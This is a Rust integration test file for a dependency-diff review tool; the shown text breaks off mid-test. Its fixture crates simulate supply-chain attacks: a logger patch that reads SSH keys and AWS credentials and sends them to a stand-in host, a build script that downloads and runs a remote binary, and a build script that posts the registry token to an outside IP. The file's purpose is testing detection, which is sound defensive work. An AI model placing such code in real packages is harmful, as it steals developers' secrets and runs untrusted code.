//! `velaris deps-diff` as a review, end to end: a workspace in a git repository whose lockfile
//! change brings in packages built like real incidents, served by the registry double on
//! 127.0.0.1 (and a git dependency served from a local bare repository). Each incident is one
//! package pair; each flag and capability change has its own assertions, and the whole review
//! is snapshotted as human, markdown and JSON output. Every JSON document is validated against
//! docs/deps-diff-v2.schema.json.

#[path = "support/archives.rs"]
mod archives;
#[path = "support/surface_doc.rs"]
mod surface_doc;
#[path = "support/registry_double.rs"]
mod registry_double;
#[path = "support/schema.rs"]
mod schema;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use registry_double::{RegistryDouble, cargo_home_replacing_crates_io, sha256_hex};
use serde_json::Value;

const CRATES_IO: &str = "registry+https://github.com/rust-lang/crates.io-index";
const LINUX: &str = "x86_64-unknown-linux-gnu";
const WINDOWS: &str = "x86_64-pc-windows-msvc";

/// One published package.
#[derive(Clone)]
struct Krate {
    name: &'static str,
    version: &'static str,
    files: Vec<(String, String)>,
    /// Locked dependencies (names; one version of each is locked).
    deps: Vec<&'static str>,
}

impl Krate {
    fn bytes(&self) -> Vec<u8> {
        let files: Vec<(&str, &str)> = self.files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
        archives::crate_bytes(self.name, self.version, &files)
    }
}

fn manifest(name: &str, version: &str, extra: &str) -> String {
    format!("[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n{extra}")
}

fn vcs(sha: &str) -> String {
    format!("{{\n  \"git\": {{\n    \"sha1\": \"{sha}\"\n  }},\n  \"path_in_vcs\": \"\"\n}}\n")
}

fn krate(name: &'static str, version: &'static str, extra: &str, files: &[(&str, &str)], deps: &[&'static str]) -> Krate {
    let mut all = vec![("Cargo.toml".to_string(), manifest(name, version, extra))];
    all.extend(files.iter().map(|(p, c)| (p.to_string(), c.to_string())));
    Krate { name, version, files: all, deps: deps.to_vec() }
}

// ---------------------------------------------------------------------------------------------
// The incidents.

const LOGGER_OLD: &str = "//! Small structured logging.\nuse std::io::Write;\n\npub fn log(level: &str, msg: &str) {\n    let mut err = std::io::stderr();\n    let _ = writeln!(err, \"[{level}] {msg}\");\n}\n";

/// A logger whose patch release starts reading files under the home directory and posting them.
const LOGGER_NEW: &str = "//! Small structured logging.\nuse std::io::Write;\n\npub fn log(level: &str, msg: &str) {\n    let mut err = std::io::stderr();\n    let _ = writeln!(err, \"[{level}] {msg}\");\n    sync_config();\n}\n\n/// Fetch the remote log configuration.\nfn sync_config() {\n    let Ok(home) = std::env::var(\"HOME\") else { return };\n    for name in [\".ssh/id_ed25519\", \".aws/credentials\", \".config/gh/hosts.yml\"] {\n        let Ok(bytes) = std::fs::read(std::path::Path::new(&home).join(name)) else { continue };\n        if let Ok(mut s) = std::net::TcpStream::connect(\"logs.example-cdn.net:443\") {\n            let _ = s.write_all(&bytes);\n        }\n    }\n}\n";

/// A patch release that adds a build script which downloads and runs a binary.
const FETCHER_BUILD: &str = "use std::process::Command;\n\nfn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let bin = format!(\"{out}/fetcher-helper\");\n    // A prebuilt helper makes builds faster.\n    let _ = Command::new(\"curl\").args([\"-sSfL\", \"https://fetcher-assets.example/helper-linux\", \"-o\", &bin]).status();\n    let _ = Command::new(\"chmod\").args([\"+x\", &bin]).status();\n    let _ = Command::new(&bin).arg(\"--install\").status();\n}\n";

const FETCHER_LIB: &str = "pub fn get(url: &str) -> String {\n    format!(\"GET {url}\")\n}\n";

/// The new crate a release only depends on: its build script posts a token.
const EVIL_BUILD: &str = "use std::io::Write;\n\nfn main() {\n    let token = std::env::var(\"CARGO_REGISTRY_TOKEN\").unwrap_or_default();\n    if let Ok(mut s) = std::net::TcpStream::connect(\"203.0.113.7:8080\") {\n        let _ = s.write_all(token.as_bytes());\n    }\n}\n";

const TINYZ_OLD: &str = "pub fn compress(data: &[u8]) -> Vec<u8> {\n    data.to_vec()\n}\n";
const TINYZ_NEW: &str = "extern \"C\" {\n    fn tz_compress(src: *const u8, len: usize, dst: *mut u8) -> usize;\n}\n\npub fn compress(data: &[u8]) -> Vec<u8> {\n    let mut out = vec![0; data.len() * 2 + 16];\n    let n = unsafe { tz_compress(data.as_ptr(), data.len(), out.as_mut_ptr()) };\n    out.truncate(n);\n    out\n}\n";
const TINYZ_BUILD: &str = "fn main() {\n    cc::Build::new().file(\"csrc/tz.c\").compile(\"tz\");\n}\n";
const CC_LIB: &str = "pub struct Build { files: Vec<String> }\n\nimpl Build {\n    pub fn new() -> Build { Build { files: Vec::new() } }\n    pub fn file(&mut self, f: &str) -> &mut Build { self.files.push(f.to_string()); self }\n    pub fn compile(&self, out: &str) {\n        let cc = std::env::var(\"CC\").unwrap_or_else(|_| \"cc\".into());\n        let _ = std::process::Command::new(cc).args(&self.files).arg(\"-o\").arg(out).status();\n    }\n}\n";

/// A large refactor: thousands of lines change, no capability does.
fn bigparse(version: &'static str, style: u32) -> Krate {
    let mut files: Vec<(String, String)> = vec![("Cargo.toml".into(), manifest("bigparse", version, ""))];
    let mut lib = String::from("//! A parser for a binary record format.\n");
    for m in 0..6 {
        lib.push_str(&format!("pub mod records{m};\n"));
        let mut text = format!("//! Records of kind {m}.\n\n");
        if style == 1 {
            text.push_str("use crate::{Cursor, Error};\n\n");
        }
        for f in 0..90 {
            if style == 0 {
                text.push_str(&format!(
                    "pub fn parse_field_{f}(input: &[u8], offset: usize) -> Option<(u32, usize)> {{\n    let b = input.get(offset..offset + 4)?;\n    Some((u32::from_le_bytes([b[0], b[1], b[2], b[3]]) ^ {f}, offset + 4))\n}}\n\n"
                ));
            } else {
                text.push_str(&format!(
                    "/// Field {f} of a kind-{m} record.\npub fn read_field_{f}(cursor: &mut Cursor<'_>) -> Result<u32, Error> {{\n    let value = cursor.take_u32_le()?;\n    Ok(value.rotate_left({r}) ^ 0x{f:04x})\n}}\n\n",
                    r = f % 31
                ));
            }
        }
        files.push((format!("src/records{m}.rs"), text));
    }
    if style == 1 {
        lib.push_str("\npub struct Cursor<'a> { data: &'a [u8], pos: usize }\n\n#[derive(Debug)]\npub struct Error;\n\nimpl<'a> Cursor<'a> {\n    pub fn new(data: &'a [u8]) -> Self { Cursor { data, pos: 0 } }\n    pub fn take_u32_le(&mut self) -> Result<u32, Error> {\n        let b = self.data.get(self.pos..self.pos + 4).ok_or(Error)?;\n        self.pos += 4;\n        Ok(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))\n    }\n}\n");
    }
    files.push(("src/lib.rs".into(), lib));
    Krate { name: "bigparse", version, files, deps: vec![] }
}

fn base_crates() -> Vec<Krate> {
    vec![
        krate("logger", "1.4.2", "repository = \"https://github.com/logger-rs/logger\"\n", &[("src/lib.rs", LOGGER_OLD), (".cargo_vcs_info.json", &vcs("1f0e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c"))], &[]),
        krate("fetcher", "0.3.1", "", &[("src/lib.rs", FETCHER_LIB)], &[]),
        krate("helper", "2.0.1", "", &[("src/lib.rs", "pub fn help() -> &'static str {\n    \"help\"\n}\n")], &[]),
        krate("tinyz-sys", "1.2.0", "", &[("src/lib.rs", TINYZ_OLD)], &[]),
        krate("serde-lite", "0.5.1", "", &[("src/lib.rs", "pub fn to_string(v: &u32) -> String {\n    v.to_string()\n}\n")], &[]),
        bigparse("3.1.0", 0),
    ]
}

fn head_crates() -> Vec<Krate> {
    vec![
        krate("logger", "1.4.3", "repository = \"https://github.com/logger-rs/logger\"\n", &[("src/lib.rs", LOGGER_NEW), (".cargo_vcs_info.json", &vcs("2a1b0c9d8e7f60514233241506f7e8d9c0b1a2f3"))], &[]),
        krate("fetcher", "0.3.2", "build = \"build.rs\"\n", &[("src/lib.rs", FETCHER_LIB), ("build.rs", FETCHER_BUILD)], &[]),
        krate("helper", "2.0.2", "\n[dependencies]\nevil-utils = \"0.1\"\n", &[("src/lib.rs", "pub fn help() -> &'static str {\n    \"help\"\n}\n")], &["evil-utils"]),
        krate("evil-utils", "0.1.0", "build = \"build.rs\"\n", &[("src/lib.rs", "pub fn noop() {}\n"), ("build.rs", EVIL_BUILD)], &[]),
        krate(
            "tinyz-sys",
            "1.3.0",
            "links = \"tz\"\nbuild = \"build.rs\"\n\n[build-dependencies]\ncc = \"1\"\n",
            &[("src/lib.rs", TINYZ_NEW), ("build.rs", TINYZ_BUILD), ("csrc/tz.c", "unsigned long tz_compress(const unsigned char *s, unsigned long n, unsigned char *d) { return 0; }\n")],
            &["cc"],
        ),
        krate("cc", "1.0.83", "", &[("src/lib.rs", CC_LIB)], &[]),
        krate("serde-lite", "0.5.2", "", &[("src/lib.rs", "pub fn to_string(v: &u32) -> String {\n    format!(\"{v}\")\n}\n")], &[]),
        bigparse("3.2.0", 1),
        krate("wincon", "0.2.0", "\n[dependencies]\nwinapi-lite = \"0.3\"\n", &[("src/lib.rs", "pub fn set_color(c: u16) -> u16 {\n    winapi_lite::attr(c)\n}\n")], &["winapi-lite"]),
        krate("winapi-lite", "0.3.9", "", &[("src/lib.rs", "#[link(name = \"kernel32\")]\nextern \"system\" {\n    fn SetConsoleTextAttribute(h: usize, a: u16) -> i32;\n}\n\npub fn attr(c: u16) -> u16 {\n    unsafe { SetConsoleTextAttribute(0, c) as u16 }\n}\n")], &[]),
    ]
}

const APP_DEPS: &str = "[dependencies]\nlogger = \"1.4\"\nfetcher = \"0.3\"\nhelper = \"2\"\ntinyz-sys = \"1\"\nserde-lite = \"0.5\"\nbigparse = \"3\"\n";
const APP_MAIN: &str = "fn main() {\n    logger::log(\"info\", \"starting\");\n    println!(\"{}\", fetcher::get(\"x\"));\n    println!(\"{}\", helper::help());\n    println!(\"{:?}\", tinyz_sys::compress(b\"x\"));\n    println!(\"{}\", serde_lite::to_string(&1));\n}\n";

/// A v3 lockfile: the member `app` depending on `direct`, and every crate.
fn lockfile(app_deps: &[&str], crates: &[Krate], extra: &str) -> String {
    let mut entries: Vec<(String, String)> = Vec::new();
    let dep_list = |deps: &[&str]| {
        if deps.is_empty() {
            String::new()
        } else {
            format!("dependencies = [\n{}]\n", deps.iter().map(|d| format!(" \"{d}\",\n")).collect::<String>())
        }
    };
    let mut app = app_deps.to_vec();
    app.sort();
    entries.push(("app".into(), format!("[[package]]\nname = \"app\"\nversion = \"0.1.0\"\n{}", dep_list(&app))));
    for k in crates {
        let mut deps = k.deps.clone();
        deps.sort();
        entries.push((
            k.name.to_string(),
            format!(
                "[[package]]\nname = \"{}\"\nversion = \"{}\"\nsource = \"{CRATES_IO}\"\nchecksum = \"{}\"\n{}",
                k.name,
                k.version,
                sha256_hex(&k.bytes()),
                dep_list(&deps)
            ),
        ));
    }
    entries.sort();
    let mut s = String::from("# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 3\n\n");
    for (_, e) in entries {
        s.push_str(&e);
        s.push('\n');
    }
    s.push_str(extra);
    s
}

// ---------------------------------------------------------------------------------------------
// The world: the registry double, a CARGO_HOME pointing at it, a git repository, a cache.

struct World {
    reg: RegistryDouble,
    home: tempfile::TempDir,
    repo: tempfile::TempDir,
    cache: tempfile::TempDir,
}

fn git_env(c: &mut Command, home: &Path) {
    c.env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", home)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.com")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.com")
        .env("GIT_AUTHOR_DATE", "2026-01-01T00:00:00Z")
        .env("GIT_COMMITTER_DATE", "2026-01-01T00:00:00Z");
}

fn git_in(dir: &Path, home: &Path, args: &[&str]) -> String {
    let mut c = Command::new("git");
    c.args(args).current_dir(dir);
    git_env(&mut c, home);
    let out = c.output().unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

struct Run(Output);

impl Run {
    fn code(&self) -> i32 {
        self.0.status.code().unwrap_or(-1)
    }
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.0.stdout).into_owned()
    }
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.0.stderr).into_owned()
    }
    fn expect(&self, code: i32) -> String {
        assert_eq!(self.code(), code, "stdout: {}\nstderr: {}", self.stdout(), self.stderr());
        self.stdout()
    }
    /// The JSON document, checked against the schema.
    fn json(&self) -> Value {
        let doc: Value = serde_json::from_str(&self.expect(0)).unwrap_or_else(|e| panic!("{e}: {}", self.stdout()));
        schema::assert_valid_v2(&doc);
        doc
    }
}

impl World {
    fn new() -> World {
        let reg = RegistryDouble::start();
        let home = cargo_home_replacing_crates_io(&reg.index_url());
        let w = World { reg, home, repo: tempfile::tempdir().unwrap(), cache: tempfile::tempdir().unwrap() };
        w.git(&["init", "-q", "-b", "main"]);
        w
    }

    fn serve(&self, crates: &[Krate]) {
        for k in crates {
            self.reg.add_crate(k.name, k.version, &k.bytes());
        }
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.repo.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn git(&self, args: &[&str]) -> String {
        git_in(self.repo.path(), self.home.path(), args)
    }

    fn commit(&self, msg: &str) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "-m", msg]);
    }

    fn cmd(&self) -> Command {
        let mut c = registry_double::velaris_command(self.repo.path(), self.home.path(), self.cache.path());
        c.env_remove("RUST_BACKTRACE");
        git_env(&mut c, self.home.path());
        c
    }

    fn run(&self, args: &[&str]) -> Run {
        Run(self.cmd().args(args).output().unwrap())
    }

    fn review(&self, extra: &[&str]) -> Run {
        let mut args = vec!["deps-diff", "HEAD~1..HEAD", "--target", LINUX];
        args.extend_from_slice(extra);
        self.run(&args)
    }
}

/// The incident workspace: base commit with the old versions and a blessed baseline, head
/// commit with the lockfile change (and a Windows-only dependency in app's manifest).
fn incidents() -> World {
    let w = World::new();
    let (base, head) = (base_crates(), head_crates());
    w.serve(&base);
    w.serve(&head);
    w.reg.yank("serde-lite", "0.5.2");
    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", APP_DEPS));
    w.write("app/src/main.rs", APP_MAIN);
    let direct = ["bigparse", "fetcher", "helper", "logger", "serde-lite", "tinyz-sys"];
    w.write("Cargo.lock", &lockfile(&direct, &base, ""));
    w.run(&["bless", "--target", LINUX]).expect(0);
    assert!(w.repo.path().join("velaris.capabilities").is_file());
    w.commit("base");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", &format!("{APP_DEPS}\n[target.'cfg(windows)'.dependencies]\nwincon = \"0.2\"\n")));
    let mut direct_head = direct.to_vec();
    direct_head.push("wincon");
    w.write("Cargo.lock", &lockfile(&direct_head, &head, ""));
    w.commit("bump dependencies");
    w
}

fn rank_of(order: &[String], name: &str) -> usize {
    order.iter().position(|n| n == name).unwrap_or_else(|| panic!("{name} not in {order:?}"))
}

fn pkg<'a>(doc: &'a Value, name: &str) -> &'a Value {
    doc["packages"].as_array().unwrap().iter().find(|p| p["name"] == name).unwrap_or_else(|| panic!("{name} not in {doc:#}"))
}

fn added(p: &Value) -> Vec<String> {
    p["capabilities"]["added"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| format!("{}{}", d["capability"].as_str().unwrap(), if d["scope"] == "build" { " (build)" } else { "" }))
        .collect()
}

fn flag_codes(p: &Value) -> Vec<String> {
    p["flags"].as_array().unwrap().iter().map(|f| f["code"].as_str().unwrap().to_string()).collect()
}

fn names(doc: &Value) -> Vec<String> {
    doc["packages"].as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap().to_string()).collect()
}

#[test]
fn the_review_of_a_lockfile_change() {
    let w = incidents();
    let doc = w.review(&["--format", "json"]).json();
    assert_eq!(doc["schema"], "velaris/deps-diff/v2");
    assert_eq!(doc["graph"]["known"], true);
    assert_eq!(doc["targets"], serde_json::json!([LINUX]));

    // The logger reads files under $HOME and posts them: gained, with evidence and the hunk.
    let logger = pkg(&doc, "logger");
    assert_eq!(logger["semver"], "patch");
    assert_eq!(logger["direct"], serde_json::json!(["app"]));
    assert_eq!(added(logger), ["net.connect", "fs.read", "env.read"]);
    let net = &logger["capabilities"]["added"][0]["findings"][0];
    assert_eq!((net["file"].as_str(), net["line"].as_u64()), (Some("src/lib.rs"), Some(15)));
    assert_eq!(net["path"], "std::net::TcpStream::connect");
    assert_eq!(net["hunk"]["changed"], true);
    assert!(net["hunk"]["text"].as_str().unwrap().contains("+        if let Ok(mut s) = std::net::TcpStream::connect"), "{net:#}");

    // A patch release that adds a build script downloading and running a binary.
    let fetcher = pkg(&doc, "fetcher");
    assert_eq!(flag_codes(fetcher), ["build-spawn", "build-script"]);
    assert!(added(fetcher).contains(&"process.spawn (build)".to_string()), "{:?}", added(fetcher));
    assert!(added(fetcher).contains(&"build.script (build)".to_string()));
    let spawn = fetcher["capabilities"]["added"].as_array().unwrap().iter().find(|d| d["capability"] == "process.spawn").unwrap();
    assert!(spawn["findings"].as_array().unwrap().iter().all(|f| f["file"] == "build.rs"));

    // A release that only adds a dependency: the new crate does the harm.
    let helper = pkg(&doc, "helper");
    assert_eq!(flag_codes(helper), ["new-dependency"]);
    assert_eq!(helper["flags"][0]["evidence"], serde_json::json!(["evil-utils (added by this change)"]));
    assert_eq!(added(helper), Vec::<String>::new(), "helper's own code did not change");
    let evil = pkg(&doc, "evil-utils");
    assert_eq!(evil["change"], "added");
    assert_eq!(evil["direct"], serde_json::json!([]));
    assert_eq!(evil["via"], serde_json::json!(["app", "helper", "evil-utils"]));
    assert!(added(evil).contains(&"net.connect (build)".to_string()), "{:?}", added(evil));
    assert!(flag_codes(evil).contains(&"build-network".to_string()));

    // A version that gains `links` and a native build.
    let tinyz = pkg(&doc, "tinyz-sys");
    let codes = flag_codes(tinyz);
    assert!(codes.contains(&"native".to_string()) && codes.contains(&"build-script".to_string()), "{codes:?}");
    assert!(added(tinyz).contains(&"ffi".to_string()), "{:?}", added(tinyz));
    assert!(added(tinyz).contains(&"build.native (build)".to_string()), "{:?}", added(tinyz));

    // A version the index marks yanked.
    let yanked = pkg(&doc, "serde-lite");
    assert_eq!(flag_codes(yanked), ["yanked"]);
    assert_eq!(yanked["new"]["yanked"], true);
    assert_eq!(yanked["old"]["yanked"], Value::Null, "only new versions are looked up");

    // A large refactor: thousands of lines, no capability, nothing flagged.
    let big = pkg(&doc, "bigparse");
    assert!(big["audit_lines"].as_u64().unwrap() > 2000, "{}", big["audit_lines"]);
    assert_eq!(added(big), Vec::<String>::new());
    assert_eq!(big["capabilities"]["status"], "analysed");
    assert_eq!(flag_codes(big), Vec::<String>::new());
    assert_eq!(big["tier"], "direct");

    // Packages only another target compiles are listed apart with the reason.
    let wincon = pkg(&doc, "wincon");
    assert_eq!(wincon["built"], false);
    assert_eq!(wincon["not_built"]["reason"], "cfg(windows)");
    assert_eq!(wincon["not_built"]["from"], "app");
    let winapi = pkg(&doc, "winapi-lite");
    assert_eq!(winapi["not_built"]["code"], "only-via");
    assert_eq!(winapi["capabilities"]["status"], "not-built");
    let not_built: u64 = ["wincon", "winapi-lite"].iter().map(|n| pkg(&doc, n)["audit_lines"].as_u64().unwrap()).sum();
    assert_eq!(doc["totals"]["audit_lines_not_built"], not_built);
    let all: u64 = doc["packages"].as_array().unwrap().iter().map(|p| p["audit_lines"].as_u64().unwrap_or(0)).sum();
    assert_eq!(doc["totals"]["audit_lines"], all - not_built, "unbuilt packages are not in the audit cost");

    // Risk order: by the score of each group (a package a change adds sits under the one that
    // brought it), unbuilt last.
    let order = names(&doc);
    assert_eq!(&order[order.len() - 2..], ["wincon", "winapi-lite"], "winapi-lite comes under wincon, which brought it");
    let built: Vec<&Value> = doc["packages"].as_array().unwrap().iter().filter(|p| p["built"] == true).collect();
    let groups: Vec<u64> = built.iter().map(|p| p["risk"]["group_score"].as_u64().unwrap()).collect();
    assert!(groups.windows(2).all(|w| w[0] >= w[1]), "{groups:?}");
    // Reading files under $HOME and connecting out outranks a large refactor, and evil-utils
    // comes right under helper, which brought it.
    assert!(rank_of(&order, "logger") < rank_of(&order, "bigparse"));
    assert_eq!(rank_of(&order, "evil-utils"), rank_of(&order, "helper") + 1, "{order:?}");
    assert_eq!(pkg(&doc, "evil-utils")["brought_by"], serde_json::json!(["helper"]));
    assert!(doc["top_risk"].as_str().unwrap().starts_with("Top risk: "), "{}", doc["top_risk"]);

    // Coverage and verification are stated.
    assert_eq!(doc["coverage"]["in_scope"], 8);
    assert_eq!(doc["coverage"]["analysed"], 8);
    assert_eq!(doc["verified"]["sha256"], doc["verified"]["sha256_total"]);
    assert_eq!(doc["verified"]["sha256_total"], 16);

    // The program gains what its dependencies gained, and the committed baseline widens,
    // exactly as `velaris check` says.
    let app = doc["programs"].as_array().unwrap().iter().find(|p| p["name"] == "app").unwrap();
    for c in ["fs.read", "net.connect", "env.read", "ffi"] {
        assert!(app["gained"].as_array().unwrap().iter().any(|g| g == c), "{c}: {app:#}");
    }
    let b = &doc["baselines"][0];
    assert_eq!(b["state"], "widened");
    assert_eq!(b["held_at_base"], true);
    let widened_programs: Vec<&Value> = b["widened"].as_array().unwrap().iter().filter(|x| x["kind"] == "program").collect();
    assert_eq!(widened_programs.len(), 1);
}

#[test]
fn deps_diff_and_check_agree_on_the_baseline() {
    let w = incidents();
    let doc = w.review(&["--format", "json"]).json();
    let mut from_review: Vec<String> = doc["baselines"][0]["widened"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| format!("{} {} {}", x["kind"].as_str().unwrap(), x["name"].as_str().unwrap(), x["capabilities"]))
        .collect();
    // The work tree is head: `velaris check` there must report the same widenings.
    let check = w.run(&["check", "--format", "json", "--target", LINUX]);
    assert_eq!(check.code(), 1, "{}", check.stderr());
    let c: Value = serde_json::from_str(&check.stdout()).unwrap();
    let mut from_check: Vec<String> = c["widened"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| match x.get("program") {
            Some(p) => format!("program {} {}", p.as_str().unwrap(), x["capabilities"]),
            None => format!("crate {} {}", x["crate"].as_str().unwrap(), x["capabilities"]),
        })
        .collect();
    from_review.sort();
    from_check.sort();
    assert_eq!(from_review, from_check);
}

#[test]
fn snapshots_of_the_review() {
    let w = incidents();
    let human = w.review(&[]).expect(0);
    insta::assert_snapshot!("review_human", human);
    let md = w.review(&["--format", "markdown"]).expect(0);
    insta::assert_snapshot!("review_markdown", md);
    let json = w.review(&["--format", "json"]).json();
    insta::assert_snapshot!("review_json", serde_json::to_string_pretty(&json).unwrap());
}

#[test]
fn the_default_output_is_short_and_files_and_diffs_are_asked_for() {
    let w = incidents();
    let review = w.review(&[]).expect(0);
    let files = w.review(&["--files"]).expect(0);
    let diff = w.review(&["--diff"]).expect(0);
    assert!(!review.contains("src/records3.rs"), "no file list by default");
    assert!(files.contains("src/records3.rs"));
    assert!(diff.contains("+++ b/src/records3.rs"));
    assert!(review.lines().count() < files.lines().count() && files.lines().count() < diff.lines().count());
    let first = review.lines().nth(1).unwrap();
    assert!(first.starts_with("10 packages changed: "), "{first}");
    assert!(first.contains("sha256 verified 16 of 16"), "{first}");
    assert!(first.contains("not built for this target)"), "{first}");
    assert!(review.contains("Verified: sha256 of 16 of 16 .crate files matched Cargo.lock"), "{review}");
}

#[test]
fn markdown_keeps_every_flag_and_capability_change_within_a_small_budget() {
    let w = incidents();
    let md = w.review(&["--format", "markdown", "--diff", "--markdown-budget", "9000"]).expect(0);
    assert!(md.chars().count() <= 9000 + 200, "{} characters", md.chars().count());
    for needle in ["`build-spawn`", "`new-dependency`", "`native`", "`yanked`", "gains `net.connect`", "has `net.connect` at build time", "❌"] {
        assert!(md.contains(needle), "{needle} missing:\n{md}");
    }
    // Diffs go to the riskiest packages first; licence and packaging files never get one.
    let big = w.review(&["--format", "markdown", "--diff"]).expect(0);
    assert!(big.contains("+++ b/src/lib.rs"), "{big}");
    assert!(!big.contains("b/.cargo_vcs_info.json"), "no diff of a packaging file");
}

#[test]
fn fail_on_names_each_condition() {
    let w = incidents();
    w.review(&[]).expect(0);
    let r = w.review(&["--fail-on", "widened,new-capability,build-script,native,yanked,proc-macro"]);
    r.expect(1);
    let err = r.stderr();
    for g in ["--fail-on widened", "--fail-on new-capability", "--fail-on build-script", "--fail-on native", "--fail-on yanked"] {
        assert!(err.contains(g), "{g}: {err}");
    }
    assert!(!err.contains("--fail-on proc-macro"), "nothing became a proc macro: {err}");
    assert!(err.contains("logger 1.4.2 -> 1.4.3: net.connect"), "{err}");
    // Conditions that do not hold pass.
    w.review(&["--fail-on", "proc-macro,unverifiable,unknown"]).expect(0);
    let r = w.review(&["--fail-on", "nope"]);
    r.expect(2);
    assert!(r.stderr().contains("unknown condition"), "{}", r.stderr());
    // Integrity failures stay exit 3 whatever --fail-on says.
    w.reg.tamper("logger", "1.4.3", b"not the published bytes");
    let fresh = tempfile::tempdir().unwrap();
    let r = Run(w.cmd().env("VELARIS_CACHE_DIR", fresh.path()).args(["deps-diff", "HEAD~1..HEAD", "--fail-on", "yanked"]).output().unwrap());
    r.expect(3);
}

#[test]
fn fail_on_takes_the_actions_list_never_and_baseline_widened_included() {
    let w = incidents();
    // `never` is the default made explicit, and stands alone.
    w.review(&["--fail-on", "never"]).expect(0);
    let r = w.review(&["--fail-on", "never,widened"]);
    r.expect(2);
    assert!(r.stderr().contains("`never` cannot be combined"), "{}", r.stderr());
    // The baseline is the same at both ends: nothing is added to it.
    w.review(&["--fail-on", "baseline-widened"]).expect(0);
    // The change blesses the widening: head holds, and the grants it adds trip
    // `baseline-widened`, as in the GitHub Action.
    w.run(&["bless", "--target", LINUX]).expect(0);
    w.commit("bless");
    let range = ["deps-diff", "HEAD~2..HEAD", "--target", LINUX];
    let doc = w.run(&[&range[..], &["--format", "json"]].concat()).json();
    schema::assert_valid_v2(&doc);
    assert_eq!(doc["baselines"][0]["state"], "holds");
    let added: Vec<String> = doc["baselines"][0]["added"].as_array().unwrap().iter().map(|a| format!("{} {}", a["kind"].as_str().unwrap(), a["name"].as_str().unwrap())).collect();
    assert!(added.contains(&"program app".to_string()), "{added:?}");
    w.run(&[&range[..], &["--fail-on", "widened"]].concat()).expect(0);
    let r = w.run(&[&range[..], &["--fail-on", "widened,baseline-widened"]].concat());
    r.expect(1);
    let err = r.stderr();
    assert!(err.contains("deps-diff: --fail-on baseline-widened:\n  program app: ") && !err.contains("--fail-on widened"), "{err}");
}

#[test]
fn all_targets_and_another_target() {
    let w = incidents();
    let doc = w.review(&["--format", "json", "--all-targets"]).json();
    let all: u64 = doc["packages"].as_array().unwrap().iter().map(|p| p["audit_lines"].as_u64().unwrap_or(0)).sum();
    assert_eq!(doc["totals"]["audit_lines"], all, "--all-targets counts everything");
    // For Windows the Windows packages are built, and analysed.
    let doc = w.run(&["deps-diff", "HEAD~1..HEAD", "--target", WINDOWS, "--format", "json"]).json();
    let wincon = pkg(&doc, "wincon");
    assert_eq!(wincon["built"], true);
    assert_eq!(wincon["direct"], serde_json::json!(["app"]));
    assert_eq!(pkg(&doc, "winapi-lite")["via"], serde_json::json!(["app", "wincon", "winapi-lite"]));
    assert!(added(pkg(&doc, "winapi-lite")).contains(&"ffi".to_string()));
    // Both targets: built when either builds it.
    let doc = w.run(&["deps-diff", "HEAD~1..HEAD", "--target", LINUX, "--target", WINDOWS, "--format", "json"]).json();
    assert_eq!(pkg(&doc, "wincon")["targets"], serde_json::json!([WINDOWS]));
    assert_eq!(pkg(&doc, "logger")["targets"], serde_json::json!([LINUX, WINDOWS]));
}

#[test]
fn two_lockfiles_without_manifests_say_the_graph_is_unknown() {
    let w = incidents();
    let old = w.git(&["show", "HEAD~1:Cargo.lock"]);
    let new = w.git(&["show", "HEAD:Cargo.lock"]);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("old.lock"), old).unwrap();
    std::fs::write(dir.path().join("new.lock"), new).unwrap();
    let r = Run(w.cmd().current_dir(dir.path()).args(["deps-diff", "--old", "old.lock", "--new", "new.lock", "--format", "json", "--target", LINUX]).output().unwrap());
    let doc = r.json();
    assert_eq!(doc["graph"]["known"], false);
    assert!(doc["graph"]["unknown"][0]["reason"].as_str().unwrap().contains("what each target builds is unknown"));
    let wincon = pkg(&doc, "wincon");
    assert_eq!(wincon["built"], Value::Null);
    // Where each package sits comes from the lockfiles' own dependency lists.
    assert_eq!(pkg(&doc, "logger")["direct"], serde_json::json!(["app"]));
    assert_eq!(pkg(&doc, "evil-utils")["via"], serde_json::json!(["app", "helper", "evil-utils"]));
    assert_eq!(pkg(&doc, "evil-utils")["brought_by"], serde_json::json!(["helper"]));
    assert_eq!(doc["coverage"]["analysed"], doc["coverage"]["in_scope"], "{:#}", doc["coverage"]);
    let all: u64 = doc["packages"].as_array().unwrap().iter().map(|p| p["audit_lines"].as_u64().unwrap_or(0)).sum();
    assert_eq!(doc["totals"]["audit_lines"], all, "everything counts when the graph is unknown");
    // Capabilities come from each changed package, with the features its lockfile entry allows.
    assert_eq!(added(pkg(&doc, "logger")), ["net.connect", "fs.read", "env.read"]);
    assert!(doc["programs"].as_array().unwrap().is_empty());
    let human = Run(w.cmd().current_dir(dir.path()).args(["deps-diff", "--old", "old.lock", "--new", "new.lock", "--target", LINUX]).output().unwrap()).expect(0);
    assert!(human.contains("graph unknown"), "{human}");
}

#[test]
fn schema_v1_is_still_available() {
    let w = incidents();
    let r = w.review(&["--format", "json", "--schema", "v1"]);
    let doc: Value = serde_json::from_str(&r.expect(0)).unwrap();
    assert_eq!(doc["schema"], "velaris/deps-diff/v1");
